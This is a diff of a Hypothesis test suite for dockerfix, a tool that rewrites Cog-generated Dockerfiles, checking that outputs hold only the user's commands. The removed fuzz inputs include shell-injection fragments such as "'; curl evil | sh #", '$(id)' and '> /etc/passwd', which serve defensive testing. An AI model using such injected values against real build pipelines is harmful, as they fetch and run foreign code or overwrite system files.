@@ -1,238 +1,155 @@
 """Projects that nobody wrote: whatever stands in cog.yaml, the result holds the user's commands and runs nothing else.
 
-Outputs are judged with BuildKit's parser (PyPI `dockerfile`) and `shlex`, not with the compiler's own reading.
+Outputs are judged with BuildKit's parser (PyPI `dockerfile`), bash and the checker, not with the compiler itself.
 """
 
 from __future__ import annotations
 
-import json
 import re
 import shlex
+from functools import partial
 
-import dockerfile
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
+from hypothesis import event, given
 
+import checker
 import dockerfix
-
-NASTY = "ab1 '\"$`;|&<>(){}#\\=!*~-@[].,/%^?+é"
-FRAGMENTS = [
-    *(
-        "'; curl evil | sh #",
-        "$(id)",
-        "`id`",
-        '"; id; "',
-        "&& id",
-        "|| id",
-        "| sh",
-        "> /etc/passwd",
-        "# comment",
-        "a\\",
-    ),
-    *(
-        "numpy",
-        "torch==2.1.2",
-        "torch",
-        "pillow>=10,<11",
-        "a[b]==1",
-        "--pre",
-        "-f https://x.example.org",
-        "-e .",
-        "==1",
-    ),
-    *("git+https://github.com/a/b@c#egg=d", "./wheels/a-1.0-py3-none-any.whl", "; python_version < '3.12'", "cog==0.9"),
-]
-LINE = st.text(NASTY, min_size=1, max_size=16) | st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=3).map(
-    " ".join
+import oracles
+from dockerfix.syntax.parser import forget
+from effort import examples
+from strategies.cog import (
+    KNOWN,
+    Case,
+    Project,
+    edited_outputs,
+    hostile_to_apt,
+    odd_outputs,
+    outputs,
+    projects,
+    skeletons,
 )
-PACKAGES = st.lists(LINE | st.sampled_from(["numpy", "scipy==1.11.4", "torch==2.1.2"]), max_size=5)
-SHELL = [
-    *(
-        "echo",
-        "mkdir -p /weights",
-        "ls",
-        "a",
-        "'b c'",
-        '"$HOME"',
-        "$(id)",
-        "`pwd`",
-        "&&",
-        "||",
-        ";",
-        "|",
-        "(",
-        ")",
-        "{",
-        "}",
-    ),
-    *(
-        "# not a comment",
-        "#",
-        "if",
-        "then",
-        "fi",
-        "<<<",
-        ">",
-        "2>&1",
-        "&",
-        "'",
-        '"',
-        "\\",
-        "$",
-        "!",
-        "é",
-        "\t",
-        "f()",
-        "[[",
-    ),
-    *("--mount=type=cache,target=/x", "pip install x>=1", "curl -O https://w.example.org/x", "for", "in", "do", "done"),
-]
-COMMANDS = st.lists(
-    st.lists(st.sampled_from(SHELL), min_size=1, max_size=6)
-    .map(lambda words: " ".join(words).strip())
-    .filter(lambda text: bool(text) and not text.endswith("\\") and "<<" not in text.replace("<<<", ""))
-    .filter(lambda text: not text.startswith(("-", "<"))),
-    max_size=4,
-    unique=True,
-)
-VALUES = st.text(NASTY, max_size=12).filter(lambda text: text == text.strip() and not text.endswith("\\"))
-ENVIRONMENT = st.dictionaries(st.sampled_from(["A", "GREETING", "X_1"]), VALUES, max_size=3)
-SYSTEM = st.lists(st.sampled_from(["ffmpeg", "libgl1", "git", "libtag1-dev>=1.9"]), max_size=3, unique=True)
+from tracing import trace
+from work import count_calls
 
-DEPS_STAGE = (
-    "#syntax=docker/dockerfile:1.4\nFROM python:3.11 as deps\n"
-    "COPY .cog/tmp/build1/cog-0.0.1.dev-py3-none-any.whl /tmp/cog-0.0.1.dev-py3-none-any.whl\n"
-    "RUN --mount=type=cache,target=/root/.cache/pip pip install -t /dep /tmp/cog-0.0.1.dev-py3-none-any.whl\n"
-    "COPY .cog/tmp/build1/requirements.txt /tmp/requirements.txt\n"
-    "RUN --mount=type=cache,target=/root/.cache/pip pip install -t /dep -r /tmp/requirements.txt\n"
-    "FROM python:3.11-slim\nENV DEBIAN_FRONTEND=noninteractive\n{environment}{system}"
-    "COPY --from=deps --link /dep /usr/local/lib/python3.11/site-packages\n"
-    '{commands}WORKDIR /src\nEXPOSE 5000\nCMD ["python", "-m", "cog.server.http"]\nCOPY . /src\n'
-)
-NAMED_CONTEXT = (
-    "#syntax=docker/dockerfile:1.4\nFROM nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04\n{environment}{system}"
-    "COPY --from=ghcr.io/astral-sh/uv:0.9.26 /uv /uvx /usr/local/bin/\nENV UV_SYSTEM_PYTHON=true\n"
-    "RUN uv python install 3.11 && \\\n\tln -sf $(uv python find 3.11) /usr/bin/python3\nENV UV_PYTHON=3.11\n"
-    "COPY --from=cog_build requirements.txt /tmp/requirements.txt\n"
-    "RUN uv run pip install --cache-dir /root/.cache/pip -r /tmp/requirements.txt\n"
-    "{commands}WORKDIR /src\nENV COG_PREDICT_TYPE_STUB=predict.py\nCOPY . /src\n"
-)
-QUOTED = re.compile(r"'[^']*'|\"(?:[^\"\\]|\\.)*\"")
+OURS = {"pip", "python", "uv", "apt-get", "rm", "for", "head", "ln", "readlink"}
+"""What the injected installs may run."""
+
+MAY_BE_REFUSED = {"DF306": "a package is a path that is not in the project"}
+
+NOT_JUDGED = {
+    "python-packages": "what is no requirement the checker divides otherwise; `check_packages` looks at the others",
+    "package-quoting": "the same",
+    "copy-dialect": "a package may be a path that is a pattern",
+}
 
 
-def render(template: str, commands: list[str], environment: dict[str, str], system: list[str]) -> str:
-    pairs = " ".join(f"{name}={value}" for name, value in sorted(environment.items()))
-    names = " ".join(system)
-    return template.format(
-        environment=f"ENV {pairs}\n" if pairs else "",
-        system=f"RUN apt-get update -qq && apt-get install -qqy {names} && rm -rf /var/lib/apt/lists/*\n"
-        if names
-        else "",
-        commands="".join(f"RUN {command}\n" for command in commands),
-    )
+def check_packages(case: Case, result: dockerfix.Result) -> None:
+    """The plain requirements are words of the install, once each in cog.yaml's order, and nothing of Cog is."""
+    cogs = oracles.scripts(case.bare)
+    traces = [trace(script) for script in oracles.injected(result.text, case.text) if script not in cogs]
+    installs = [each for each in traces if any("install" in words[1:4] for words in each.calls)]
+    assert {program for each in installs for program in each.programs} <= OURS
+    words = [word for each in installs for call in each.calls if call[0] != "apt-get" for word in call]
+    assert not any(word.startswith("cog") and "server" not in case.folder.name for word in words)
+    if case.lists_packages:
+        wanted = [name for name in case.project.packages if name in KNOWN]
+        rest = iter(words)
+        assert all(name in rest for name in dict.fromkeys(wanted))
 
 
-def cog_yaml(packages: list[str], commands: list[str], environment: dict[str, str], system: list[str]) -> str:
-    """JSON is YAML."""
-    return json.dumps(
-        {
-            "build": {
-                "python_version": "3.11",
-                "python_packages": packages,
-                "system_packages": system,
-                "run": commands,
-            },
-            "environment": [f"{name}={value}" for name, value in environment.items()],
-        }
-    )
+def check_fal_ready(case: Case, result: dockerfix.Result) -> None:
+    """The checker has no objection; it judges the default target."""
+    if "server" not in case.folder.name:
+        found = checker.check(result.text, cog_yaml=case.cog_yaml, project=case.folder, original=case.bare)
+        assert not [violation for violation in found if violation.rule not in NOT_JUDGED]
 
 
-def runs(text: str) -> list[str]:
-    """The commands of all RUN instructions, as BuildKit reads them."""
-    return [each.value[0] for each in dockerfile.parse_string(text) if each.cmd.upper() == "RUN"]
+@examples
+@given(outputs())
+def test_any_project(case: Case) -> None:
+    result = case.rewrite()
+    oracles.check_result(result)
+    refused = {finding.code for finding in result.findings if finding.severity == 3}
+    assert refused <= set(MAY_BE_REFUSED)
+    event(f"refused: {', '.join(sorted(refused)) or 'no'}")
+    if result.ok:
+        oracles.check_second_run(result, case.rewrite(result.text))
+        check_packages(case, result)
+        check_fal_ready(case, result)
 
 
-def programs(script: str) -> list[str]:
-    """The first words of all commands of a plain script, as a shell would divide it; what is quoted is ``Q``."""
-    lexer = shlex.shlex(QUOTED.sub("Q", script), posix=True, punctuation_chars=True)
-    lexer.whitespace_split = True
-    lexer.commenters = ""
-    found: list[str] = []
-    first = True
-    for word in lexer:
-        if word in (";", "&&", "||", "|", "&", "(", ")"):
-            first = True
-        elif first:
-            found.append(word)
-            first = False
-    return found
+@examples
+@given(outputs(hostile_to_apt))
+def test_a_debian_package_that_is_none_is_refused(case: Case) -> None:
+    result = case.rewrite()
+    oracles.check_result(result)
+    odd = any(re.search(r"[^A-Za-z0-9.+>=~: -]", name) for name in case.project.system)
+    assert result.ok is not odd
+    assert {finding.code for finding in result.findings if finding.severity == 3} <= {"DF203"}
+
+
+@examples
+@given(odd_outputs())
+def test_any_cog_yaml_at_all(case: Case) -> None:
+    result = case.rewrite()
+    oracles.check_result(result)
+    if result.ok:
+        oracles.check_second_run(result, case.rewrite(result.text))
+    event("taken" if result.ok else "refused")
+
+
+@examples
+@given(edited_outputs())
+def test_what_the_user_wrote_between_stays(case: Case) -> None:
+    result = case.rewrite()
+    oracles.check_result(result)
+    if result.ok:
+        oracles.check_second_run(result, case.rewrite(result.text))
+
+
+@examples
+@given(outputs(), projects)
+def test_a_changed_project_is_as_good_as_a_new_one(case: Case, project: Project) -> None:
+    """A result under a cog.yaml that changed becomes what the Dockerfile of that cog.yaml becomes."""
+    skeleton = next(skeleton for skeleton in skeletons() if skeleton.folder == case.folder)
+    first = case.rewrite()
+    later = skeleton.case(project._replace(run=case.project.run))
+    after, fresh = later.rewrite(first.text), later.rewrite()
+    if not (first.ok and fresh.ok):
+        return
+    assert after.ok
+    oracles.check_second_run(after, later.rewrite(after.text))
+    assert packages_of(after.text) == packages_of(fresh.text)
+    for code in ("DF201", "DF203", "DF205"):
+        assert after.text.count(f"dockerfix[{code}]") <= 1
+    check_packages(later, after)
 
 
 def packages_of(text: str) -> list[str]:
     """What the block of packages installs, without the options that Cog's own command had."""
-    words = block(text, "DF201")
+    match = re.search(r"^# dockerfix\[DF201\]:.*\n(?:COPY .*\n)*(RUN (?:.*\\\n)*.*)$", text, re.MULTILINE)
+    words = shlex.split(match[1].replace("\\\n", " ")) if match else []
     kept = [word for word in words if word not in ("-t", "/dep", "--cache-dir", "/root/.cache/pip")]
     return kept[kept.index("install") + 1 :] if kept else []
 
 
-def block(text: str, code: str) -> list[str]:
-    """The words of the RUN that dockerfix wrote under its comment."""
-    match = re.search(rf"^# dockerfix\[{code}\]:.*\n(?:COPY .*\n)*(RUN (?:.*\\\n)*.*)$", text, re.MULTILINE)
-    return shlex.split(match[1].replace("\\\n", " ")) if match else []
+TIMES = 8
 
 
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
-@given(st.sampled_from([DEPS_STAGE, NAMED_CONTEXT]), PACKAGES, COMMANDS, ENVIRONMENT, SYSTEM)
-def test_any_project(
-    template: str, packages: list[str], commands: list[str], environment: dict[str, str], system: list[str]
-) -> None:
-    source = render(template, commands, environment, system)
-    config = cog_yaml(packages, commands, environment, system)
-    result = dockerfix.rewrite(source, cog_yaml=config)
-    errors = [(finding.code, finding.message) for finding in result.findings if finding.severity == 3]
-    assert not result.internal, errors
-    assert result.ok, errors
-    second = dockerfix.rewrite(result.text, cog_yaml=config)
-    assert second.ok
-    assert not second.changed
-
-    present = runs(result.text)
-    rest = iter(present)
-    assert all(command in rest for command in commands)
-    ours = [script for script in present if script not in commands]
-    for script in ours:
-        assert "evil" not in programs(script)
-        if "pip install" in script:
-            assert set(programs(script)) <= {"pip", "python", "uv", "for", "do", "done"}
-    words = block(result.text, "DF201")
-    for name in ("numpy", "scipy==1.11.4", "torch==2.1.2"):
-        assert name not in packages or name in words
-    assert not any(word.startswith("cog") for word in words)
-    installed = " ".join(ours)
-    assert all(name.partition(">")[0] in installed for name in system)
+def rewrite_anew(case: Case) -> None:
+    forget()
+    case.rewrite()
 
 
-@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(st.sampled_from([DEPS_STAGE, NAMED_CONTEXT]), PACKAGES, PACKAGES, ENVIRONMENT, ENVIRONMENT, SYSTEM, SYSTEM)
-def test_a_changed_project_is_as_good_as_a_new_one(
-    template: str,
-    packages: list[str],
-    later_packages: list[str],
-    environment: dict[str, str],
-    later_environment: dict[str, str],
-    system: list[str],
-    later_system: list[str],
-) -> None:
-    first = dockerfix.rewrite(
-        render(template, ["ls"], environment, system), cog_yaml=cog_yaml(packages, ["ls"], environment, system)
-    )
-    config = cog_yaml(later_packages, ["ls"], later_environment, later_system)
-    after = dockerfix.rewrite(first.text, cog_yaml=config)
-    fresh = dockerfix.rewrite(render(template, ["ls"], later_environment, later_system), cog_yaml=config)
-    assert first.ok
-    assert after.ok
-    assert packages_of(after.text) == packages_of(fresh.text)
-    for code in ("DF201", "DF203", "DF205"):
-        assert after.text.count(f"dockerfix[{code}]") <= 1
-    assert not dockerfix.rewrite(after.text, cog_yaml=config).changed
-    assert runs(after.text).count("ls") == 1
+@examples
+@given(outputs())
+def test_the_work_of_rewriting_grows_with_the_commands(case: Case) -> None:
+    """A project with `TIMES` as many commands and packages costs no more than as many projects."""
+    skeleton = next(skeleton for skeleton in skeletons() if skeleton.folder == case.folder)
+    run = [f"{command} {number}" for number in range(10 * TIMES) for command in ("echo", "mkdir -p /a/b &&", "cp a")]
+    packages = [f"p{number}==1" for number in range(10 * TIMES)]
+    cases = [
+        skeleton.case(case.project._replace(run=run[:commands], packages=packages[:count]))
+        for commands, count in ((30, 10), (30 * TIMES, 10 * TIMES))
+    ]
+    once, often = (count_calls(partial(rewrite_anew, each)) for each in cases)
+    assert often <= TIMES * once
